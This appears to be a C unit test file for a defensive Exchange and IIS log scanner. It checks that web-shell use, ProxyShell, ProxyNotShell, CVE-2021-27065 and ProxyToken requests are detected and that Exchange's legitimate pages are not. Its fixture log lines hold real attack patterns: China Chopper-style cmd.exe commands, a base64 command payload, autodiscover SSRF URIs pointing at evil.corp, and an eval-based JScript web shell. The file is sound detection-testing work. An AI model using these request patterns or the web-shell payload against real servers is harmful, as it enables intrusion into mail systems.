/* IIS web-shell use by any method, Exchange's own pages, ProxyShell vs ProxyNotShell, 27065 as published, ProxyToken, grouping. */
#include "logscan_test.h"

#define INST "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
#define ECPPATH INST "Logging\\ECP\\Server\\ECPServer20210303-1.LOG"
#define IISPATH "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log"
#define IISHDR "#Software: Microsoft Internet Information Services 10.0\n" \
    "#Version: 1.0\n#Date: 2021-03-03 05:00:00\n#Fields: date time s-ip " \
    "cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip " \
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status " \
    "time-taken\n"
#define UA "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+" \
    "(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36"
#define WS "iis/webshell-use"

static struct exh_findings *
analyse_n(const char *path, const char *t, size_t n)
{
	struct exh_logscan *ls = new_ls();
	struct exh_findings *fs = NULL;
	struct exh_err err = { 0 };

	exh_logscan_set_install_path(ls, INST);
	assert_int_equal(run_mem(ls, path, EXH_LOG_UNKNOWN, t, n, 0, &fs, &err),
	    EXH_OK);
	exh_logscan_destroy(ls);
	return fs;
}

static struct exh_findings *
analyse(const char *path, const char *t)
{
	return analyse_n(path, t, strlen(t));
}

static void
get_with_a_command_to_a_planted_shell_is_found(void **state)
{
	struct exh_findings *fs;
	const struct exh_finding *f;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-03-03 05:01:02 10.0.0.5 GET /aspnet_client/discover.aspx "
	    "cmd=whoami 443 - 198.51.100.20 python-requests/2.25.1 - 200 0 0 "
	    "31\n");
	f = find_hit(fs, WS, 5);
	assert_non_null(f);
	assert_int_equal(f->level, EXH_LEVEL_ALERT);
	assert_int_equal(f->score, 85);
	assert_true(strstr(f->reasons[0].detail, "shell-typical") != NULL ||
	    strstr(f->reasons[0].detail, "command") != NULL);
	exh_findings_destroy(fs);
}

static void
post_without_query_to_an_unknown_owa_auth_page_is_found(void **state)
{
	struct exh_findings *fs;
	const struct exh_finding *f;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-03-03 05:01:02 10.0.0.5 POST /owa/auth/errorEEE.aspx - 443 - "
	    "198.51.100.21 " UA " - 200 0 0 31\n");
	f = find_hit(fs, WS, 5);
	assert_non_null(f);
	assert_int_equal(f->score, 75);
	assert_int_equal(f->level, EXH_LEVEL_WARNING);
	exh_findings_destroy(fs);
}

static void
exchange_own_pages_give_no_finding_by_any_method(void **state)
{
	struct exh_findings *fs;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-03-03 05:01:02 10.0.0.5 POST /owa/auth/logon.aspx "
	    "replaceCurrent=1&url=https%3a%2f%2fmail.contoso.com%2fowa%2f 443 - "
	    "10.1.1.1 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:03 10.0.0.5 GET /owa/auth/logon.aspx url=https%3a"
	    "%2f%2fmail.contoso.com%2fowa%2f&reason=0 443 - 10.1.1.1 " UA
	    " - 200 0 0 31\n"
	    "2021-03-03 05:01:04 10.0.0.5 GET /OWA/AUTH/LogOff.aspx Cmd=logoff "
	    "443 CONTOSO\\u 10.1.1.1 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:05 10.0.0.5 GET /owa/auth/expiredpassword.aspx "
	    "url=/owa/ 443 - 10.1.1.2 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:06 10.0.0.5 GET /owa/auth/errorFE.aspx httpCode="
	    "500 443 - 10.1.1.3 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:07 10.0.0.5 GET /ecp/auth/TimeoutLogout.aspx - "
	    "443 - 10.1.1.3 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:08 10.0.0.5 POST /EWS/Exchange.asmx - 443 "
	    "CONTOSO\\u 10.1.1.4 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:09 10.0.0.5 GET /ecp/PersonalSettings/HomePage."
	    "aspx showhelp=false 443 CONTOSO\\u 10.1.1.4 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:10 10.0.0.5 POST /owa/sessiondata.ashx "
	    "appcacheclient=0 443 CONTOSO\\u 10.1.1.4 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:11 10.0.0.5 POST /Microsoft-Server-ActiveSync/"
	    "default.eas Cmd=Sync&User=u&DeviceId=A&DeviceType=iPhone 443 "
	    "CONTOSO\\u 10.1.1.5 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:12 10.0.0.5 GET /owa/auth/shell.aspx - 443 - "
	    "10.1.1.6 " UA " - 404 0 2 31\n");
	assert_int_equal(count_check(fs, WS), 0);
	assert_int_equal(exh_findings_count(fs), 0);
	exh_findings_destroy(fs);
}

static void
exchange_page_name_in_the_wrong_folder_is_found(void **state)
{
	struct exh_findings *fs;

	(void)state;
	/* logon.aspx belongs in owa/auth, not in aspnet_client. */
	fs = analyse(IISPATH, IISHDR
	    "2021-03-03 05:01:02 10.0.0.5 GET /aspnet_client/logon.aspx - 443 "
	    "- 198.51.100.22 " UA " - 200 0 0 31\n"
	    "2021-03-03 05:01:03 10.0.0.5 GET /ecp/auth/default.aspx - 443 "
	    "- 198.51.100.22 " UA " - 200 0 0 31\n");
	assert_non_null(find_hit(fs, WS, 5));
	assert_non_null(find_hit(fs, WS, 6));
	exh_findings_destroy(fs);
}

static void
china_chopper_marker_and_base64_blob_are_shell_parameters(void **state)
{
	struct exh_findings *fs;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-03-03 05:01:02 10.0.0.5 GET /owa/auth/OutlookEN.aspx "
	    "z=cmd.exe+/c+cd+/d+%22c:\\inetpub\\wwwroot\\aspnet_client%22"
	    "%26echo+[S]%26cd%26echo+[E] 443 - 198.51.100.24 - - 200 0 0 31\n"
	    "2021-03-03 05:01:03 10.0.0.5 GET /aspnet_client/system_web/"
	    "log.aspx code=UmVzcG9uc2UuV3JpdGUoU3lzdGVtLkRpYWdub3N0aWNzLlByb2"
	    "Nlc3MuU3RhcnQoImNtZC5leGUiKSk7 443 - 198.51.100.25 - - 200 0 0 "
	    "31\n");
	assert_int_equal(find_hit(fs, WS, 5)->score, 85);
	assert_int_equal(find_hit(fs, WS, 6)->score, 85);
	exh_findings_destroy(fs);
}

static void
activesync_cmd_parameter_is_not_a_shell_parameter(void **state)
{
	struct exh_findings *fs;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-03-03 05:01:02 10.0.0.5 POST /Microsoft-Server-ActiveSync/"
	    "default.eas Cmd=Ping&User=u&DeviceId=A&DeviceType=Android 443 "
	    "CONTOSO\\u 10.1.1.5 " UA " - 200 0 0 31\n");
	assert_int_equal(exh_findings_count(fs), 0);
	exh_findings_destroy(fs);
}

static void
proxyshell_line_is_not_also_proxynotshell(void **state)
{
	struct exh_findings *fs;

	(void)state;
	/* ProxyShell's PowerShell stage: anonymous, X-Rps-CAT token. */
	fs = analyse(IISPATH, IISHDR
	    "2021-08-10 05:01:02 10.0.0.5 POST /autodiscover/autodiscover.json "
	    "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z"
	    "&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - "
	    "198.51.100.30 python-requests/2.26.0 - 200 0 0 31\n");
	assert_non_null(find_hit(fs, "ProxyShell/autodiscover", 5));
	assert_null(find_hit(fs, "ProxyNotShell/autodiscover", 5));
	exh_findings_destroy(fs);
}

static void
proxynotshell_line_is_not_also_proxyshell(void **state)
{
	struct exh_findings *fs;

	(void)state;
	/* ProxyNotShell: an authenticated user, no X-Rps-CAT. */
	fs = analyse(IISPATH, IISHDR
	    "2022-09-29 05:01:02 10.0.0.5 POST /autodiscover/autodiscover.json "
	    "@evil.corp/owa/?&Email=autodiscover/autodiscover.json%3F@evil.corp"
	    "&Protocol=XYZ&FooProtocol=Powershell 443 CONTOSO\\lowpriv "
	    "198.51.100.31 python-requests/2.28.1 - 200 0 0 31\n");
	assert_non_null(find_hit(fs, "ProxyNotShell/autodiscover", 5));
	assert_null(find_hit(fs, "ProxyShell/autodiscover", 5));
	exh_findings_destroy(fs);
}

#define ECPHDR "#Software: Microsoft Exchange Server\n#Log-type: ECP " \
    "Server Log\n#Fields: TimeStamp,ServerName,EventId,EventData\n"

static void
ecp_27065_line_as_published_is_an_alert(void **state)
{
	struct exh_findings *fs;

	(void)state;
	/* Ends at the closing tag and the parameter's quotes, as incident
	 * reports print it; the second one carries Identity after it. */
	fs = analyse(ECPPATH, ECPHDR
	    "2021-03-03T06:45:11.123Z,EXCH01,1,\"S:TIME=1044;S:SID=S-1-5-18;"
	    "S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script "
	    "language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load()"
	    "{eval(Request[\"\"p\"\"],\"\"unsafe\"\");}</script>''\"\n"
	    "2021-03-03T06:45:12.123Z,EXCH01,1,\"S:CMD=Set-OabVirtualDirectory."
	    "InternalUrl=''http://g/<script>Response.Write(1)</script>''."
	    "Identity=''EXCH01\\OAB (Default Web Site)''\"\n");
	assert_int_equal(find_hit(fs, "CVE-2021-27065/ecp-set-vdir", 4)->level,
	    EXH_LEVEL_ALERT);
	assert_non_null(find_hit(fs, "CVE-2021-27065/ecp-set-vdir", 5));
	assert_int_equal(count_check(fs, "CVE-2021-27065/ecp-set-vdir-broad"),
	    0);
	exh_findings_destroy(fs);
}

static void
proxytoken_inbox_rule_with_security_token_is_an_alert(void **state)
{
	struct exh_findings *fs;
	const struct exh_finding *f;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-08-30 05:01:02 10.0.0.5 POST /ecp/victim%40contoso.com/"
	    "RulesEditor/InboxRules.svc/NewObject SecurityToken=ZXhhbXBsZQ 443 "
	    "- 198.51.100.40 python-requests/2.26.0 - 500 0 0 31\n"
	    "2021-08-30 05:01:03 10.0.0.5 POST /ecp/u%40contoso.com/RulesEditor/"
	    "InboxRules.svc/NewObject msExchEcpCanary=abc 443 CONTOSO\\u "
	    "10.1.1.7 " UA " - 200 0 0 31\n");
	f = find_hit(fs, "CVE-2021-33766/proxytoken", 5);
	assert_non_null(f);
	assert_int_equal(f->level, EXH_LEVEL_ALERT);
	assert_null(find_hit(fs, "CVE-2021-33766/proxytoken", 6));
	exh_findings_destroy(fs);
}

/* n GETs to one shell from one client, plus one from another client. */
static char *
repeated(size_t n, bool distinct, size_t *len)
{
	size_t cap = strlen(IISHDR) + (n + 1) * 200, k, i;
	char *t = malloc(cap);

	assert_non_null(t);
	k = (size_t)snprintf(t, cap, "%s", IISHDR);
	for (i = 0; i < n; i++) {
		char stem[64];

		if (distinct)
			snprintf(stem, sizeof(stem), "/aspnet_client/s%u.aspx",
			    (unsigned)i);
		else
			snprintf(stem, sizeof(stem), "/aspnet_client/s.aspx");
		k += (size_t)snprintf(t + k, cap - k, "2021-03-03 05:%02u:%02u "
		    "10.0.0.5 GET %s cmd=whoami 443 - 198.51.100.50 x - 200 0 0 "
		    "3\n", (unsigned)(i / 60 % 60), (unsigned)(i % 60), stem);
	}
	k += (size_t)snprintf(t + k, cap - k, "2021-03-03 06:00:00 10.0.0.5 GET "
	    "/aspnet_client/s.aspx cmd=whoami 443 - 198.51.100.51 x - 200 0 0 "
	    "3\n");
	*len = k;
	return t;
}

static void
repeated_hits_on_one_shell_are_one_finding_with_count(void **state)
{
	struct exh_findings *fs;
	const struct exh_finding *f = NULL;
	size_t len, i;
	char *t = repeated(3000, false, &len);

	(void)state;
	fs = analyse_n(IISPATH, t, len);
	free(t);
	assert_int_equal(count_findings(fs, WS), 2);
	for (i = 0; i < exh_findings_count(fs); i++)
		if (exh_findings_get(fs, i)->count == 3000)
			f = exh_findings_get(fs, i);
	assert_non_null(f);
	assert_int_equal(f->nsamples, EXH_GROUP_SAMPLES);
	assert_int_equal(f->samples[0].line, 5);
	assert_int_equal(f->nclients, 1);
	assert_string_equal(f->clients[0], "198.51.100.50");
	assert_true(f->first < f->last);
	assert_non_null(f->grouped);
	exh_findings_destroy(fs);
}

static void
many_distinct_shells_fold_into_one_other_finding(void **state)
{
	struct exh_findings *fs;
	size_t len, i, other = 0;
	char *t = repeated(400, true, &len);

	(void)state;
	fs = analyse_n(IISPATH, t, len);
	free(t);
	/* 100 own groups, the other 300 + 1 URIs counted in "other". */
	assert_int_equal(count_findings(fs, WS), 101);
	assert_int_equal(count_check(fs, WS), 401);
	for (i = 0; i < exh_findings_count(fs); i++) {
		const struct exh_finding *f = exh_findings_get(fs, i);

		if (f->grouped != NULL && strncmp(f->grouped, "other", 5) == 0) {
			other++;
			assert_int_equal(f->count, 301);
			assert_int_equal(f->nclients, 2);
		}
	}
	assert_int_equal(other, 1);
	exh_findings_destroy(fs);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(get_with_a_command_to_a_planted_shell_is_found),
		cmocka_unit_test(post_without_query_to_an_unknown_owa_auth_page_is_found),
		cmocka_unit_test(exchange_own_pages_give_no_finding_by_any_method),
		cmocka_unit_test(exchange_page_name_in_the_wrong_folder_is_found),
		cmocka_unit_test(china_chopper_marker_and_base64_blob_are_shell_parameters),
		cmocka_unit_test(activesync_cmd_parameter_is_not_a_shell_parameter),
		cmocka_unit_test(proxyshell_line_is_not_also_proxynotshell),
		cmocka_unit_test(proxynotshell_line_is_not_also_proxyshell),
		cmocka_unit_test(ecp_27065_line_as_published_is_an_alert),
		cmocka_unit_test(proxytoken_inbox_rule_with_security_token_is_an_alert),
		cmocka_unit_test(repeated_hits_on_one_shell_are_one_finding_with_count),
		cmocka_unit_test(many_distinct_shells_fold_into_one_other_finding),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
